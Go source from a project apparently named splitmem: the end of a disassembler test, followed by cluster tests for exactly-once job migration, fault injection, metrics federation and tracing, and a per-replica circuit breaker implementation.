		{Instr{Op: OpPop, R1: EDI}, "pop edi"},
		{Instr{Op: OpJmpReg, R1: ECX}, "jmp ecx"},
		{Instr{Op: OpCallReg, R1: EAX}, "call eax"},
		{Instr{Op: OpInt, Imm: 0x80}, "int 0x80"},
		{Instr{Op: OpJz, Imm: 4, Size: 5}, "jz .+4"},
		{Instr{Op: OpJmp, Imm: 0xfffffff6, Size: 5}, "jmp .-10"},
	}
	for _, tt := range tests {
		if got := tt.in.String(); got != tt.want {
			t.Errorf("%+v: got %q want %q", tt.in, got, tt.want)
		}
	}
	// Absolute rendering resolves branch targets.
	in := Instr{Op: OpCall, Imm: 0x10, Size: 5}
	if got := in.DisasmAt(0x8048000); got != "call 0x8048015" {
		t.Errorf("DisasmAt: %q", got)
	}
}
