package cluster

// Edge-of-the-protocol tests: the windows where exactly-once is easiest to
// lose. Each test drives the public HTTP surface and compares outcomes
// against a single-node oracle where determinism makes that meaningful.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"splitmem/internal/chaos"
	"splitmem/internal/serve"
)

// awaitOwnerIdx waits until some gateway job has an upstream owner and
// returns that node's index.
func awaitOwnerIdx(t *testing.T, h *Harness, timeout time.Duration) int {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		h.Gateway.jobsMu.Lock()
		for _, j := range h.Gateway.jobs {
			if rep, up := j.owner(); rep != nil && up != 0 {
				h.Gateway.jobsMu.Unlock()
				for i, r := range h.Gateway.Replicas() {
					if r == rep {
						return i
					}
				}
				t.Fatal("owner replica not in gateway set")
			}
		}
		h.Gateway.jobsMu.Unlock()
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatal("no job ever got an upstream owner")
	return -1
}

// oracleRun executes a job on a standalone node and returns its stream.
func oracleRun(t *testing.T, cfg serve.Config, body map[string]any) []gwLine {
	t.Helper()
	node, err := newNode(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer node.close()
	resp := postJob(t, node.URL()+"/v1/jobs?stream=1", body)
	defer resp.Body.Close()
	return readLines(t, resp.Body)
}

// assertMatchesOracle byte-compares the event stream and the deterministic
// result fields against the oracle's run.
func assertMatchesOracle(t *testing.T, lines, oracle []gwLine) {
	t.Helper()
	var got, want []json.RawMessage
	for _, l := range lines {
		if l.Type == "event" {
			got = append(got, l.Event)
		}
	}
	for _, l := range oracle {
		if l.Type == "event" {
			want = append(want, l.Event)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("stream has %d events, oracle %d", len(got), len(want))
	}
	for i := range got {
		if !bytes.Equal(got[i], want[i]) {
			t.Fatalf("event %d differs:\n  got:  %s\n  want: %s", i, got[i], want[i])
		}
	}
	gres, ores := lines[len(lines)-1].Result, oracle[len(oracle)-1].Result
	if gres == nil || ores == nil {
		t.Fatalf("missing terminal result (got %v, oracle %v)", gres, ores)
	}
	if gres.Reason != ores.Reason || gres.ExitStatus != ores.ExitStatus ||
		gres.Cycles != ores.Cycles || gres.EventCount != ores.EventCount ||
		gres.Detections != ores.Detections || gres.Stdout != ores.Stdout {
		t.Fatalf("deterministic result fields differ:\n  got:  %+v\n  want: %+v", gres, ores)
	}
}

// TestReplicaDiesBeforeFirstEvent kills a job's replica right after the
// accepted line, before the job has streamed anything. The gateway can
// salvage no checkpoint from a dead process; the job must re-run from
// scratch elsewhere and the client stream must still be complete and
// oracle-identical.
func TestReplicaDiesBeforeFirstEvent(t *testing.T) {
	h, err := NewHarness(3, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	body := map[string]any{"name": "early-death", "source": longSpin, "timeout_ms": 30000}
	oracle := oracleRun(t, fastCfg(), body)

	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", body)
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	first, err := br.ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	var acc gwLine
	json.Unmarshal([]byte(first), &acc)
	if acc.Type != "accepted" {
		t.Fatalf("first line %q", first)
	}

	// The accepted line reached us, so the gateway knows its owner. Crash it
	// before the job has a checkpoint worth exporting.
	h.Nodes[awaitOwnerIdx(t, h, 5*time.Second)].Kill()

	lines := append([]gwLine{acc}, readLines(t, br)...)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil {
		t.Fatalf("no terminal result; last line %+v", last)
	}
	if last.Result.Reason != "all-done" || last.Result.ExitStatus != 9 {
		t.Fatalf("recovered result %+v", last.Result)
	}
	if !last.Result.Migrated {
		t.Fatal("result not marked migrated")
	}
	if h.Gateway.ScratchResumes() == 0 {
		t.Fatal("expected a scratch resume — a dead replica has no checkpoint to export")
	}
	assertMatchesOracle(t, lines, oracle)
}

// dropOnce is a man-in-the-middle transport: the first resume POST reaches
// the replica (admission happens, the key is claimed, the job starts) but
// the response is discarded and replaced with a transport error — the
// classic "was it admitted?" ambiguity.
type dropOnce struct {
	base http.RoundTripper
	used atomic.Bool
	hits atomic.Int64
}

func (d *dropOnce) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := d.base.RoundTrip(req)
	if err != nil || req.Method != http.MethodPost || !strings.HasSuffix(req.URL.Path, "/v1/jobs/resume") {
		return resp, err
	}
	if resp.StatusCode != http.StatusOK || !d.used.CompareAndSwap(false, true) {
		return resp, err
	}
	d.hits.Add(1)
	// Wait for the accepted line so admission is a fact, then lose the
	// response the way a dying connection would.
	br := bufio.NewReader(resp.Body)
	br.ReadString('\n')
	resp.Body.Close()
	return nil, fmt.Errorf("simulated connection loss after admission")
}

// TestDuplicateResumeReclaim proves the exactly-once disambiguation: when a
// submission is admitted but the gateway never learns it, the same-key retry
// collides (409), and the orphan — running with nobody listening — is
// reclaimed by detach and finished elsewhere. The client sees one accepted
// line and one result.
func TestDuplicateResumeReclaim(t *testing.T) {
	gcfg := fastGW()
	mitm := &dropOnce{base: http.DefaultTransport}
	gcfg.HTTP = &http.Client{Transport: mitm}
	h, err := NewHarness(3, fastCfg(), gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	body := map[string]any{"name": "dup-claim", "source": longSpin, "timeout_ms": 30000}
	oracle := oracleRun(t, fastCfg(), body)

	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", body)
	lines := readLines(t, resp.Body)
	resp.Body.Close()
	if mitm.hits.Load() != 1 {
		t.Fatalf("mitm intercepted %d requests, want 1", mitm.hits.Load())
	}

	var accepted, results int
	for _, l := range lines {
		switch l.Type {
		case "accepted":
			accepted++
		case "result":
			results++
		}
	}
	if accepted != 1 || results != 1 {
		t.Fatalf("client saw %d accepted and %d result lines, want exactly 1 each", accepted, results)
	}
	last := lines[len(lines)-1]
	if last.Result.Reason != "all-done" || last.Result.ExitStatus != 9 || !last.Result.Migrated {
		t.Fatalf("reclaimed result %+v", last.Result)
	}
	assertMatchesOracle(t, lines, oracle)

	// Exactly one replica must have refused the duplicate claim.
	dups := uint64(0)
	for _, n := range h.Nodes {
		r, err := http.Get(n.URL() + "/healthz")
		if err != nil {
			t.Fatal(err)
		}
		var hb struct {
			Cluster struct {
				ResumeDuplicates uint64 `json:"resume_duplicates"`
			} `json:"cluster"`
		}
		json.NewDecoder(r.Body).Decode(&hb)
		r.Body.Close()
		dups += hb.Cluster.ResumeDuplicates
	}
	if dups != 1 {
		t.Fatalf("cluster saw %d duplicate resume claims, want exactly 1", dups)
	}
}

// TestDrainDuringMigration drains the job's owner, then immediately drains a
// second replica so the migration's first-choice target may itself be going
// away mid-hop. The job must still land on the last healthy replica with a
// complete, oracle-identical stream.
func TestDrainDuringMigration(t *testing.T) {
	h, err := NewHarness(3, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	body := map[string]any{"name": "double-drain", "source": longSpin, "timeout_ms": 30000}
	oracle := oracleRun(t, fastCfg(), body)

	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", body)
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	first, _ := br.ReadString('\n')
	var acc gwLine
	json.Unmarshal([]byte(first), &acc)
	if acc.Type != "accepted" {
		t.Fatalf("first line %q", first)
	}

	owner := awaitOwnerIdx(t, h, 5*time.Second)
	h.Nodes[owner].Drain()
	// Drain one more node before the hop can settle; exactly one stays up.
	second := (owner + 1) % 3
	h.Nodes[second].Drain()

	lines := append([]gwLine{acc}, readLines(t, br)...)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil ||
		last.Result.Reason != "all-done" || last.Result.ExitStatus != 9 {
		t.Fatalf("result after double drain: %+v", last.Result)
	}
	if !last.Result.Migrated {
		t.Fatal("result not marked migrated")
	}
	assertMatchesOracle(t, lines, oracle)
}

// TestGatewayReplacementOverLiveReplicas restarts the gateway tier itself:
// a second gateway instance over the same replicas must come up routable
// (its first probe sweep is synchronous), carry a distinct identity so its
// migration keys can never collide with its predecessor's, and serve jobs.
func TestGatewayReplacementOverLiveReplicas(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	resp := postJob(t, h.URL()+"/v1/jobs", map[string]any{"name": "before", "source": exitSrc})
	var res serve.JobResult
	json.NewDecoder(resp.Body).Decode(&res)
	resp.Body.Close()
	if res.Reason != "all-done" {
		t.Fatalf("pre-replacement job %+v", res)
	}

	gcfg := fastGW()
	for _, n := range h.Nodes {
		gcfg.Replicas = append(gcfg.Replicas, n.URL())
	}
	gw2, err := New(gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer gw2.Close()
	front2 := httptest.NewServer(gw2.Handler())
	defer front2.Close()

	if gw2.InstanceID() == h.Gateway.InstanceID() {
		t.Fatal("replacement gateway reused the old instance identity")
	}
	for i, r := range gw2.Replicas() {
		if r.State() != StateUp {
			t.Fatalf("replica %d not up in replacement gateway: %v", i, r.State())
		}
	}
	resp = postJob(t, front2.URL+"/v1/jobs", map[string]any{"name": "after", "source": exitSrc})
	json.NewDecoder(resp.Body).Decode(&res)
	resp.Body.Close()
	if res.Reason != "all-done" || res.ExitStatus != 7 {
		t.Fatalf("post-replacement job %+v", res)
	}
}

// TestChaosCheckpointCorruptionCaught forces every checkpoint transfer to be
// corrupted in transit. The CRC gate must reject each one (counted), the
// refetch budget must exhaust, and the job must finish via scratch resume —
// correct, never resumed from a bad image.
func TestChaosCheckpointCorruptionCaught(t *testing.T) {
	gcfg := fastGW()
	gcfg.Chaos = chaos.ClusterConfig{Seed: 7, CheckpointCorrupt: 1.0}
	h, err := NewHarness(3, fastCfg(), gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	body := map[string]any{"name": "corrupt-wire", "source": longSpin, "timeout_ms": 30000}
	oracle := oracleRun(t, fastCfg(), body)

	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", body)
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	first, _ := br.ReadString('\n')
	var acc gwLine
	json.Unmarshal([]byte(first), &acc)
	if acc.Type != "accepted" {
		t.Fatalf("first line %q", first)
	}
	h.Nodes[awaitOwnerIdx(t, h, 5*time.Second)].Drain()

	lines := append([]gwLine{acc}, readLines(t, br)...)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil ||
		last.Result.Reason != "all-done" || last.Result.ExitStatus != 9 {
		t.Fatalf("result under checkpoint corruption: %+v", last.Result)
	}
	if h.Gateway.CorruptFetches() == 0 {
		t.Fatal("CRC gate never fired despite 100% corruption")
	}
	if h.Gateway.ScratchResumes() == 0 {
		t.Fatal("job should have fallen back to a scratch resume")
	}
	assertMatchesOracle(t, lines, oracle)
}
