package cluster

// Tests for the cluster observability tier: healthz build/uptime fields,
// the federated Prometheus exposition (validity, stable replica labels
// across a rolling restart, no duplicated series), the merged distributed
// trace of a live-migrated job, retry-reason annotations, and the failure
// flight recorder under chaos-injected checkpoint corruption.

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"splitmem/internal/chaos"
	"splitmem/internal/telemetry/hostspan"
)

// scrape GETs a /metrics endpoint and returns its text.
func scrape(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d", url, resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Fatalf("GET %s: content-type %q", url, ct)
	}
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// sampleLine matches one valid exposition sample: name, optional {labels},
// a space, and a value.
var sampleLine = regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^}]*\})? [^ ]+$`)

// checkExposition requires every non-comment line of text to be a valid
// sample and returns them.
func checkExposition(t *testing.T, text string) []string {
	t.Helper()
	var samples []string
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if !sampleLine.MatchString(line) {
			t.Fatalf("invalid exposition line %q", line)
		}
		samples = append(samples, line)
	}
	if len(samples) == 0 {
		t.Fatal("empty exposition")
	}
	return samples
}

// seriesKey strips the value off a sample line: the series identity.
func seriesKey(sample string) string {
	if i := strings.LastIndexByte(sample, ' '); i >= 0 {
		return sample[:i]
	}
	return sample
}

// replicaLabels returns the set of replica="..." values present in samples.
func replicaLabels(samples []string) map[string]bool {
	re := regexp.MustCompile(`replica="([^"]*)"`)
	out := map[string]bool{}
	for _, s := range samples {
		if m := re.FindStringSubmatch(s); m != nil {
			out[m[1]] = true
		}
	}
	return out
}

// runOneJob streams one trivial job through the gateway to completion.
func runOneJob(t *testing.T, baseURL, name string) {
	t.Helper()
	resp := postJob(t, baseURL+"/v1/jobs?stream=1", map[string]any{
		"name": name, "source": exitSrc, "timeout_ms": 30000,
	})
	defer resp.Body.Close()
	lines := readLines(t, resp.Body)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil || last.Result.Reason != "all-done" {
		t.Fatalf("job %s: terminal %+v", name, last)
	}
}

func TestHealthzBuildAndUptime(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	// Both tiers must identify themselves the same way.
	for _, url := range []string{h.URL(), h.Nodes[0].URL()} {
		resp, err := http.Get(url + "/healthz")
		if err != nil {
			t.Fatal(err)
		}
		var body struct {
			Build struct {
				Version string `json:"version"`
				Go      string `json:"go"`
			} `json:"build"`
			UptimeSeconds *float64 `json:"uptime_seconds"`
		}
		err = json.NewDecoder(resp.Body).Decode(&body)
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		if body.Build.Go == "" {
			t.Errorf("%s/healthz: missing build.go", url)
		}
		if body.Build.Version == "" {
			t.Errorf("%s/healthz: missing build.version", url)
		}
		if body.UptimeSeconds == nil || *body.UptimeSeconds < 0 {
			t.Errorf("%s/healthz: bad uptime_seconds %v", url, body.UptimeSeconds)
		}
	}
}

func TestFederatedMetricsExposition(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	runOneJob(t, h.URL(), "fed-probe")

	samples := checkExposition(t, scrape(t, h.URL()+"/metrics"))
	text := strings.Join(samples, "\n")
	for _, want := range []string{
		"splitmem_gateway_jobs_accepted_total",
		"splitmem_gateway_probe_rtt_us",
		`splitmem_serve_jobs_accepted_total{replica="r0"}`,
		`splitmem_serve_jobs_accepted_total{replica="r1"}`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("federated exposition missing %q", want)
		}
	}
	labels := replicaLabels(samples)
	if !labels["r0"] || !labels["r1"] || len(labels) != 2 {
		t.Errorf("replica labels %v, want exactly {r0 r1}", labels)
	}

	// Each series appears exactly once: federation must not double-count.
	seen := map[string]bool{}
	for _, s := range samples {
		k := seriesKey(s)
		if seen[k] {
			t.Errorf("duplicated series %q", k)
		}
		seen[k] = true
	}
}

func TestFederationStableAcrossRollingRestart(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	runOneJob(t, h.URL(), "restart-probe-before")

	before := checkExposition(t, scrape(t, h.URL()+"/metrics"))
	if labels := replicaLabels(before); !labels["r0"] || !labels["r1"] {
		t.Fatalf("labels before restart: %v", labels)
	}

	if err := h.RollingRestart(30 * time.Second); err != nil {
		t.Fatal(err)
	}
	runOneJob(t, h.URL(), "restart-probe-after")

	after := checkExposition(t, scrape(t, h.URL()+"/metrics"))
	labels := replicaLabels(after)
	if !labels["r0"] || !labels["r1"] || len(labels) != 2 {
		t.Errorf("labels after restart %v, want exactly {r0 r1}: the replica label is the slot, not the process", labels)
	}
	seen := map[string]bool{}
	for _, s := range after {
		k := seriesKey(s)
		if seen[k] {
			t.Errorf("duplicated series after restart: %q", k)
		}
		seen[k] = true
	}
}

// drainOwnerMigrate posts a streamed job, drains its owner mid-run, and
// returns the trace header and streamed lines once the run has exercised a
// migration. Fast hosts can retire the whole job before the drain lands; such
// attempts are discarded (the drained node is restarted, a fresh job goes in)
// so the test checks the migration path instead of racing it. progressed
// reports whether the migration machinery fired, from a gateway counter
// sampled before the attempt.
func drainOwnerMigrate(t *testing.T, h *Harness, name string, counter func() uint64) (trace string, owner int) {
	t.Helper()
	for attempt := 0; attempt < 8; attempt++ {
		before := counter()
		resp := postJob(t, h.URL()+"/v1/jobs?stream=1", map[string]any{
			"name": fmt.Sprintf("%s-%d", name, attempt), "source": longSpin, "timeout_ms": 30000,
		})
		trace = resp.Header.Get(hostspan.TraceHeader)
		br := bufio.NewReader(resp.Body)
		first, _ := br.ReadString('\n')
		var acc gwLine
		json.Unmarshal([]byte(first), &acc)
		if acc.Type != "accepted" {
			resp.Body.Close()
			t.Fatalf("first line %q", first)
		}
		owner = awaitOwnerIdx(t, h, 5*time.Second)
		h.Nodes[owner].Drain()
		lines := readLines(t, br)
		resp.Body.Close()
		last := lines[len(lines)-1]
		if last.Type != "result" || last.Result == nil || last.Result.Reason != "all-done" {
			t.Fatalf("terminal %+v", last)
		}
		if counter() > before {
			return trace, owner
		}
		if err := h.Nodes[owner].Restart(); err != nil {
			t.Fatal(err)
		}
	}
	t.Fatal("job finished before the drain landed in every attempt")
	return "", -1
}

// TestTraceMigratedJob is the tracing acceptance check: a job live-migrated
// mid-run exports ONE merged trace — gateway admit/route spans plus spans
// from BOTH replicas under the same trace ID, with the migration and
// stream-stitch in causal order — and the Chrome export carries all three
// process tracks.
func TestTraceMigratedJob(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	trace, _ := drainOwnerMigrate(t, h, "trace-migrate", h.Gateway.Migrations)
	if trace == "" {
		t.Fatal("no trace header on the gateway response")
	}

	tr, err := http.Get(h.URL() + "/v1/traces/" + trace)
	if err != nil {
		t.Fatal(err)
	}
	defer tr.Body.Close()
	var doc hostspan.TraceDoc
	if err := json.NewDecoder(tr.Body).Decode(&doc); err != nil {
		t.Fatal(err)
	}
	if doc.Trace != trace {
		t.Fatalf("doc trace %q, want %q", doc.Trace, trace)
	}
	var gwProcs, repProcs int
	for _, p := range doc.Procs {
		switch {
		case strings.HasPrefix(p, "gateway:"):
			gwProcs++
		case strings.HasPrefix(p, "replica:"):
			repProcs++
		}
	}
	if gwProcs != 1 || repProcs != 2 {
		t.Fatalf("procs %v: want one gateway and both replicas", doc.Procs)
	}

	byName := map[string][]hostspan.Span{}
	for _, s := range doc.Spans {
		if s.Trace != trace {
			t.Fatalf("span %s carries trace %q, want %q", s.Name, s.Trace, trace)
		}
		byName[s.Name] = append(byName[s.Name], s)
	}
	// Every gateway hop — the first included — goes through the keyed
	// resume path, so the replica-side admission span is rep.resume.
	for _, want := range []string{"gw.admit", "gw.job", "gw.route", "gw.relay", "gw.migrate", "gw.stitch", "rep.resume", "rep.run", "rep.checkpoint-export"} {
		if len(byName[want]) == 0 {
			t.Errorf("merged trace missing %s span", want)
		}
	}
	if t.Failed() {
		t.FailNow()
	}
	// Causal order: the migration opens before the stitched stream resumes,
	// and the destination replica's resume sits between them. Spans arrive
	// sorted by start, and hop 0 is itself a keyed resume — the migration's
	// resume is the last one.
	resumes := byName["rep.resume"]
	mig, stitch, resume := byName["gw.migrate"][0], byName["gw.stitch"][0], resumes[len(resumes)-1]
	if !mig.Start.Before(stitch.Start) && !mig.Start.Equal(stitch.Start) {
		t.Errorf("gw.migrate starts %v after gw.stitch %v", mig.Start, stitch.Start)
	}
	if resume.Start.Before(mig.Start) {
		t.Errorf("rep.resume at %v predates the migration start %v", resume.Start, mig.Start)
	}
	if mig.Attrs["to"] == "" {
		t.Errorf("gw.migrate closed without a destination: %v", mig.Attrs)
	}

	// The Chrome export must carry one track per process.
	cr, err := http.Get(h.URL() + "/v1/traces/" + trace + "?format=chrome")
	if err != nil {
		t.Fatal(err)
	}
	defer cr.Body.Close()
	var chrome struct {
		TraceEvents []struct {
			Ph   string `json:"ph"`
			Name string `json:"name"`
		} `json:"traceEvents"`
	}
	if err := json.NewDecoder(cr.Body).Decode(&chrome); err != nil {
		t.Fatal(err)
	}
	var procNames int
	for _, e := range chrome.TraceEvents {
		if e.Ph == "M" && e.Name == "process_name" {
			procNames++
		}
	}
	if procNames != 3 {
		t.Errorf("chrome export has %d process_name tracks, want 3", procNames)
	}
}

// TestRetryReasonRecorded drives the gateway through shed-retry cycles
// against a deliberately tiny replica and requires (a) the per-reason
// retry counter in /metrics and (b) per-attempt span annotations naming
// the replica and reason.
func TestRetryReasonRecorded(t *testing.T) {
	rcfg := fastCfg()
	rcfg.Workers = 1
	rcfg.Backlog = 1
	gcfg := fastGW()
	gcfg.RetryBudget = 50
	h, err := NewHarness(1, rcfg, gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	body, err := json.Marshal(map[string]any{
		"name": "shed", "source": longSpin, "timeout_ms": 30000,
	})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 6)
	for i := 0; i < 6; i++ {
		go func() {
			// The tiny replica sheds under this load; the gateway retries
			// acknowledged streams itself, but pre-ack rejections surface as
			// 429/503 and are the client's to retry.
			for attempt := 0; attempt < 200; attempt++ {
				resp, err := http.Post(h.URL()+"/v1/jobs?stream=1", "application/json", strings.NewReader(string(body)))
				if err != nil {
					done <- err
					return
				}
				if resp.StatusCode != http.StatusOK {
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					time.Sleep(20 * time.Millisecond)
					continue
				}
				var last gwLine
				dec := json.NewDecoder(resp.Body)
				for {
					var l gwLine
					if derr := dec.Decode(&l); derr != nil {
						break
					}
					last = l
				}
				resp.Body.Close()
				if last.Type != "result" || last.Result == nil || last.Result.Reason != "all-done" {
					done <- fmt.Errorf("terminal %+v", last)
					return
				}
				done <- nil
				return
			}
			done <- fmt.Errorf("never admitted after 200 attempts")
		}()
	}
	for i := 0; i < 6; i++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}

	text := scrape(t, h.URL()+"/metrics")
	if !strings.Contains(text, `splitmem_gateway_retries_total{reason="rejected"}`) {
		t.Errorf("no rejected-reason retry counter in:\n%s", text)
	}
	var annotated bool
	for _, s := range h.Gateway.rec.Tail(hostspan.DefaultCap) {
		if s.Name == "gw.shed-retry" && s.Attrs["reason"] != "" && s.Attrs["replica"] != "" {
			annotated = true
			break
		}
	}
	if !annotated {
		t.Error("no gw.shed-retry span annotated with reason and replica")
	}
}

// TestFlightRecorderCRCDump is the flight-recorder acceptance check: with
// chaos corrupting every checkpoint transfer, a forced migration must
// leave a post-mortem dump that names the failing replica and checkpoint.
func TestFlightRecorderCRCDump(t *testing.T) {
	dir := t.TempDir()
	gcfg := fastGW()
	gcfg.Chaos = chaos.ClusterConfig{Seed: 1, CheckpointCorrupt: 1.0}
	gcfg.FlightRecorderDir = dir
	h, err := NewHarness(2, fastCfg(), gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	_, owner := drainOwnerMigrate(t, h, "crc-crash", h.Gateway.CorruptFetches)
	if h.Gateway.CorruptFetches() == 0 {
		t.Fatal("CRC gate never fired despite 100% corruption")
	}
	if h.Gateway.FlightDumps() == 0 {
		t.Fatal("CRC mismatch left no flight-recorder dump")
	}

	matches, err := filepath.Glob(filepath.Join(dir, "flight-*-checkpoint-crc-mismatch.json"))
	if err != nil || len(matches) == 0 {
		t.Fatalf("no checkpoint-crc-mismatch dump in %s (err %v)", dir, err)
	}
	raw, err := os.ReadFile(matches[0])
	if err != nil {
		t.Fatal(err)
	}
	var dump struct {
		Reason string `json:"reason"`
		Detail struct {
			Replica    string `json:"replica"`
			Checkpoint string `json:"checkpoint"`
			Error      string `json:"error"`
		} `json:"detail"`
		Replicas []json.RawMessage `json:"replicas"`
		Spans    []hostspan.Span   `json:"spans"`
	}
	if err := json.Unmarshal(raw, &dump); err != nil {
		t.Fatalf("dump %s: %v", matches[0], err)
	}
	if dump.Reason != "checkpoint-crc-mismatch" {
		t.Errorf("dump reason %q", dump.Reason)
	}
	if dump.Detail.Replica != h.Nodes[owner].URL() {
		t.Errorf("dump names replica %q, want the drained owner %q", dump.Detail.Replica, h.Nodes[owner].URL())
	}
	if dump.Detail.Checkpoint == "" {
		t.Error("dump does not identify the checkpoint")
	}
	if len(dump.Replicas) != 2 {
		t.Errorf("dump carries %d replica views, want 2", len(dump.Replicas))
	}
	if len(dump.Spans) == 0 {
		t.Error("dump carries no span tail")
	}
}
