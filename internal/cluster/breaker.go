package cluster

// Per-replica circuit breaker. The prober's StateDown is a coarse,
// threshold-delayed signal; the breaker is the fast path that stops the
// router from feeding jobs to a replica whose streams are breaking RIGHT
// NOW, before FailThreshold probes have confirmed the death. Classic
// three-state machine:
//
//	closed    — healthy; failures count toward the threshold.
//	open      — tripped; pickReplica skips the replica entirely. Every
//	            further failure (probes included) refreshes the trip time,
//	            so a dead replica never half-opens on the clock alone.
//	half-open — trial; the replica is routable again, and the very next
//	            outcome decides: success re-closes, failure re-opens.
//
// Two paths out of open: the cooldown elapsing (checked lazily by
// allow()), or a successful probe (probe-driven recovery — the prober
// reaching /healthz is direct evidence the host is back). Both land in
// half-open, never straight in closed: one good probe after a partition
// does not prove the data path.
//
// The relayUnknown retry deliberately bypasses the breaker: an ambiguous
// attempt MUST go back to the same replica with the same key so the
// per-key 409 can disambiguate admission. Correctness outranks shedding.

import (
	"fmt"
	"sync"
	"time"
)

// breakerState is the breaker's position.
type breakerState int32

const (
	breakerClosed breakerState = iota
	breakerOpen
	breakerHalfOpen
)

// String returns the state's wire name (healthz, metrics label).
func (s breakerState) String() string {
	switch s {
	case breakerClosed:
		return "closed"
	case breakerOpen:
		return "open"
	case breakerHalfOpen:
		return "half-open"
	}
	return fmt.Sprintf("breaker(%d)", int32(s))
}

// breaker is one replica's circuit breaker. Transitions are reported via
// onTransition, invoked outside the breaker lock (it touches the gateway's
// metrics mutex).
type breaker struct {
	threshold    int
	cooldown     time.Duration
	onTransition func(from, to breakerState)

	mu       sync.Mutex
	state    breakerState
	failures int       // consecutive failures while closed
	openedAt time.Time // last trip (or trip refresh) time
}

func newBreaker(threshold int, cooldown time.Duration, onTransition func(from, to breakerState)) *breaker {
	return &breaker{threshold: threshold, cooldown: cooldown, onTransition: onTransition}
}

// transition moves the state under b.mu and returns the notification to
// fire once the lock is released.
func (b *breaker) transition(to breakerState) func() {
	from := b.state
	if from == to {
		return nil
	}
	b.state = to
	if to == breakerOpen {
		b.openedAt = time.Now()
	}
	if b.onTransition == nil {
		return nil
	}
	fn := b.onTransition
	return func() { fn(from, to) }
}

func fire(note func()) {
	if note != nil {
		note()
	}
}

// allow reports whether the router may send traffic to this replica. An
// open breaker whose cooldown has elapsed moves to half-open (the clock
// path out of open) and is allowed one trial.
func (b *breaker) allow() bool {
	b.mu.Lock()
	var note func()
	if b.state == breakerOpen && time.Since(b.openedAt) >= b.cooldown {
		note = b.transition(breakerHalfOpen)
	}
	ok := b.state != breakerOpen
	b.mu.Unlock()
	fire(note)
	return ok
}

// noteProbeSuccess records a successful health probe: direct evidence the
// host is reachable, but not that the data path works — open moves to
// half-open, and only a second consecutive signal (another good probe, or
// a relay success) re-closes.
func (b *breaker) noteProbeSuccess() {
	b.mu.Lock()
	var note func()
	switch b.state {
	case breakerClosed:
		b.failures = 0
	case breakerOpen:
		note = b.transition(breakerHalfOpen)
	case breakerHalfOpen:
		b.failures = 0
		note = b.transition(breakerClosed)
	}
	b.mu.Unlock()
	fire(note)
}

// noteSuccess records a successful relay outcome: the data path works, so
// any state re-closes.
func (b *breaker) noteSuccess() {
	b.mu.Lock()
	b.failures = 0
	note := b.transition(breakerClosed)
	b.mu.Unlock()
	fire(note)
}

// noteFailure records a failed probe or a broken relay stream.
func (b *breaker) noteFailure() {
	b.mu.Lock()
	var note func()
	switch b.state {
	case breakerClosed:
		b.failures++
		if b.failures >= b.threshold {
			note = b.transition(breakerOpen)
		}
	case breakerHalfOpen:
		note = b.transition(breakerOpen)
	case breakerOpen:
		// Refresh the trip time: the cooldown clock restarts, so a replica
		// that keeps failing probes never half-opens on time alone.
		b.openedAt = time.Now()
	}
	b.mu.Unlock()
	fire(note)
}

// current returns the state for healthz views and tests.
func (b *breaker) current() breakerState {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state
}
