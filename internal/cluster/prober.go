package cluster

import (
	"context"
	"encoding/json"
	"net/http"
	"time"
)

